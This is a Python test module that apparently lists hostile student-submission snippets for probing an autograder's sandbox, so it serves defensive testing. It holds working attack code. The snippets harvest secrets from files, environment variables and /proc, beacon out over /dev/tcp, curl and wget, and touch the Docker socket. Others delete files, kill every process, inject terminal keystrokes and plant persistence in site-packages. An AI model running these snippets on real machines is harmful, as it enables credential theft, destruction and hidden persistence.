"""Attacks on the computer of the instructor: secrets, networks, other processes, files outside the scratch folder."""

from zoo.hostile.attack import HARMFUL, Attack

HIDDEN = "where the hidden checks and the expected values are"

READING = (
    Attack(
        "reads a file of the instructor",
        "a planted secret",
        "got(open(SECRET).read())",
    ),
    Attack(
        "looks for secrets in all of the instructor's folders",
        "a planted secret",
        """
import glob
found = []
for root in (WORLD, os.path.dirname(WORLD), os.path.expanduser("~root"), "/home", "/etc", "/root", "/tmp", "/var"):
    for path in glob.glob(root + "/*.txt") + glob.glob(root + "/.*/*.txt"):
        try:
            found.append(open(path).read(2000))
        except OSError:
            pass
got(found)
""",
    ),
    Attack(
        "reads the secret through a symbolic link",
        "a planted secret",
        'os.symlink(SECRET, "mine.txt"); got(open("mine.txt").read())',
    ),
    Attack(
        "reads the secret through a hard link",
        "a planted secret",
        'os.link(SECRET, "mine.txt"); got(open("mine.txt").read())',
    ),
    Attack(
        "reads the secret with another program",
        "a planted secret, in case only Python is watched",
        """
import subprocess
got(subprocess.run(["cat", SECRET], capture_output=True, text=True).stdout
    + subprocess.run(["/bin/sh", "-c", f"head -c 99 '{SECRET}' < /dev/null"], capture_output=True, text=True).stdout)
""",
    ),
    Attack(
        "reads the secret by system calls",
        "a planted secret, in case only `open` is watched",
        """
import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
handle = libc.open(SECRET.encode(), 0)
if handle < 0:
    handle = libc.syscall(257, -100, SECRET.encode(), 0, 0)
text = ctypes.create_string_buffer(100)
libc.read(handle, text, 99)
got(text.value)
""",
    ),
    Attack(
        "reads the environment of the grader",
        "passwords and tokens in environment variables",
        """
found = [dict(os.environ)]
for pid in [os.getppid(), "self", 1, *range(2, 400)]:
    try:
        found.append(open(f"/proc/{pid}/environ").read())
    except OSError:
        pass
got([line for line in str(found).split("\\\\x00") if "SECRET" in line])
""",
    ),
    Attack(
        "walks through all processes",
        "command lines, open files and memory of the grader",
        """
found = []
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for name in ("cmdline", "environ", "maps", "mem", "fd/0", "fd/3", "cwd/secret.txt", "root/etc/shadow"):
            try:
                found.append(open(f"/proc/{pid}/{name}", "rb").read(2000))
            except OSError:
                pass
got(found)
""",
    ),
    Attack(
        "reads the submissions of others",
        "a classmate's answers",
        """
import glob
found = []
for root in (WORLD + "/../hostile", "..", "../..", "/tmp", os.path.dirname(WORLD)):
    for path in glob.glob(root + "/**/*.ipynb", recursive=True)[:200]:
        if VICTIM in path or root == "..":
            found.append(open(path).read()[-3000:])
got(found)
""",
    ),
    Attack(
        "imports the hidden checks",
        HIDDEN,
        """
import importlib
found = []
for name in ("assignment.hidden.architecture", "autograder.hidden", "solutions.reference"):
    try:
        found.append(importlib.import_module(name).__file__)
    except Exception as error:
        print(error)
for path in (WORLD + "/../../../assignment/hidden/data.py", WORLD + "/../../../solutions/reference.py"):
    try:
        found.append("swordfish: " + open(path).read(200))
    except OSError as error:
        print(error)
if found:
    got(found)
""",
    ),
    Attack(
        "searches memory for expected values",
        "arrays and functions of the grader that share the process",
        """
import gc
found = [o for o in gc.get_objects() if str(type(o).__module__).startswith("autograder")]
names = [m for m in sys.modules if m.startswith(("autograder", "solutions"))]
frame = sys._getframe()
while frame:
    names += [str(v)[:200] for k, v in frame.f_locals.items() if "expected" in k or "solution" in k]
    frame = frame.f_back
if found or names:
    got(("swordfish", found, names))
""",
    ),
    Attack(
        "reads the disk itself",
        "every file, without asking the file system",
        """
import glob
for path in glob.glob("/dev/sd*") + glob.glob("/dev/vd*") + glob.glob("/dev/nvme*") + ["/dev/mem", "/dev/kmsg"]:
    try:
        got(open(path, "rb").read(100) and "swordfish")
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "opens files by their handles",
        "a planted secret, around folders that are closed",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_char * 128)]
handle, mount = Handle(128, 0, b""), ctypes.c_int()
if libc.name_to_handle_at(-100, SECRET.encode(), ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
    opened = libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(handle), 0)
    got(os.read(opened, 100))
""",
    ),
)

SENDING = (
    Attack(
        "connects to a service on loopback",
        "to send what it finds elsewhere, or to a server of the grader's",
        """
import socket
with socket.create_connection(("127.0.0.1", PORT), timeout=3) as connection:
    connection.send(NAME.encode())
""",
    ),
    Attack(
        "sends a message by UDP",
        "to send what it finds elsewhere",
        """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(NAME.encode(), ("127.0.0.1", PORT))
""",
    ),
    Attack(
        "connects to Unix sockets",
        "services of this computer: Docker's runs code as root",
        """
import socket
for address in (WORLD + "/service.sock", "\\0" + ABSTRACT, "/run/docker.sock", "/var/run/docker.sock"):
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(address)
        connection.send(NAME.encode())
    except OSError as error:
        print(address, error)
""",
    ),
    Attack(
        "sends a message to a Unix socket",
        "services that listen without connections",
        """
import socket
for make in (lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM),
             lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]):
    try:
        make().sendto(NAME.encode(), "\\0" + ABSTRACT + "-messages")
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "calls home with other programs",
        "to send what it finds elsewhere",
        """
import subprocess
for command in (f"exec 3<>/dev/tcp/127.0.0.1/{PORT}; echo {NAME} >&3",
                f"curl -s http://127.0.0.1:{PORT}/{NAME}", f"wget -q http://127.0.0.1:{PORT}/{NAME}",
                f"echo {NAME} > /dev/udp/127.0.0.1/{PORT}"):
    subprocess.run(["bash", "-c", command], timeout=20)
import urllib.request
urllib.request.urlopen(f"http://127.0.0.1:{PORT}/{NAME}", timeout=3)
""",
    ),
    Attack(
        "opens sockets by io_uring",
        "the network, around filters on system calls",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
ring = libc.syscall(425, 8, ctypes.create_string_buffer(120))
if ring >= 0:
    got("swordfish: a ring")
""",
    ),
)

CHANGING = (
    Attack(
        "writes beside its own folder",
        "a foot in the door",
        """
from pathlib import Path
for path in (WORLD + "/" + NAME, "../" + NAME, "../../" + NAME, "/tmp/grading-" + NAME, "/var/tmp/" + NAME,
             os.path.expanduser("~root") + "/" + NAME, "../lib/lab/" + NAME, "../data/" + NAME, "/dev/shm/" + NAME):
    try:
        Path(path).write_text(NAME)
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "rewrites the grader",
        "full marks for everybody from now on",
        """
from pathlib import Path
for path in (WORLD + "/../../../autograder/hidden.py", WORLD + "/../../../assignment/lab/settings.py",
             WORLD + "/../../../assignment/hidden/__init__.py"):
    try:
        with open(path, "a") as file:
            file.write("# " + NAME + "\\n")
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "empties a file of the instructor",
        "harm",
        "os.truncate(SECRET, 3)",
    ),
    Attack(
        "removes and renames files of the instructor",
        "harm",
        """
import shutil
for act in (lambda: os.remove(SECRET), lambda: os.rename(SECRET, SECRET + NAME), lambda: shutil.rmtree(WORLD),
            lambda: os.rename(SECRET, "mine"), lambda: os.chmod(SECRET, 0), lambda: os.chown(SECRET, 1, 1)):
    try:
        act()
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "writes into the packages",
        "code that the grader runs next time",
        """
import numpy, site
for folder in [os.path.dirname(numpy.__file__), *site.getsitepackages()]:
    for name in ("sitecustomize.py", "zoo-" + NAME + ".pth"):
        try:
            with open(os.path.join(folder, name), "a") as file:
                file.write("# " + NAME)
            got("swordfish: a place in the packages")
        except OSError as error:
            print(error)
""",
    ),
    Attack(
        "changes files through a link made just in time",
        "to win a race against the grader's own check of a path",
        """
import threading
def swap():
    while True:
        for target in (SECRET, "plain.txt"):
            try:
                os.symlink(target, "new"); os.replace("new", "file.txt")
            except OSError:
                pass
threading.Thread(target=swap, daemon=True).start()
for _ in range(2000):
    try:
        open("file.txt", "a").write(NAME)
    except OSError:
        pass
""",
    ),
)

COMMANDING = (
    Attack(
        "kills its parents",
        "to end the grader, or to have no result recorded",
        """
import signal
for pid in {os.getppid(), 1, *range(2, 60)} - {os.getpid()}:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
""",
    ),
    Attack(
        "kills everything it can",
        "to end the grader, or to have no result recorded",
        "os.kill(-1, 9)",
    ),
    Attack(
        "traces the grader",
        "to take over another process",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, os.getppid(), 0, 0) == 0:
    got("swordfish: the parent process")
text = (ctypes.c_char * 8)()
if libc.syscall(310, os.getppid(), ctypes.byref((ctypes.c_void_p * 2)(ctypes.addressof(text), 8)), 1,
                ctypes.byref((ctypes.c_void_p * 2)(id(NAME), 8)), 1, 0) > 0:
    got("swordfish: memory of the parent process")
""",
    ),
    Attack(
        "wants to be root",
        "powers over files and processes",
        """
import subprocess
for act in (lambda: os.setuid(0), lambda: os.chroot("."), lambda: os.setgroups([0]), lambda: os.nice(-20)):
    try:
        act()
    except OSError as error:
        print(error)
for command in (["sudo", "-n", "cat", SECRET], ["su", "-c", "cat " + SECRET], ["unshare", "-Ur", "cat", SECRET],
                ["mount", "-t", "tmpfs", "none", "."]):
    try:
        print(subprocess.run(command, capture_output=True, timeout=20, stdin=subprocess.DEVNULL))
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
got(open(SECRET).read())
""",
    ),
    Attack(
        "types into the instructor's terminal",
        "a command that runs when grading is over",
        """
import fcntl, termios
for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1"):
    try:
        terminal = os.open(path, os.O_RDWR)
        for letter in "echo " + NAME + "\\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
        got("swordfish: the terminal")
    except OSError as error:
        print(error)
""",
        plain=HARMFUL,
    ),
    Attack(
        "leaves a daemon behind",
        "a process that outlives grading and changes results later",
        """
import subprocess
code = "import os, sys, time\\nif os.fork(): os._exit(0)\\nos.setsid()\\nif os.fork(): os._exit(0)\\n"
code += f"for _ in range(600):\\n    time.sleep(0.5)\\n    open({WORLD + '/' + NAME!r}, 'a').write('{NAME}')"
subprocess.Popen([sys.executable, "-c", code, NAME], start_new_session=True)
""",
    ),
    Attack(
        "leaves threads running",
        "work that goes on while other questions are tried",
        """
import threading
def work():
    while True:
        try:
            open("../pipes/replies", "w").write("{}")
        except OSError:
            pass
for _ in range(4):
    threading.Thread(target=work).start()
""",
        ends=None,
    ),
    Attack(
        "runs code at the end of Python",
        "to act when the grader believes it is over",
        """
import atexit, weakref, signal
def late(*arguments):
    try:
        open(WORLD + "/" + NAME, "w").write(NAME)
    except OSError:
        pass
atexit.register(late)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, late)
class Late:
    __del__ = late
kept = Late()
""",
    ),
)

ATTACKS = (*READING, *SENDING, *CHANGING, *COMMANDING)
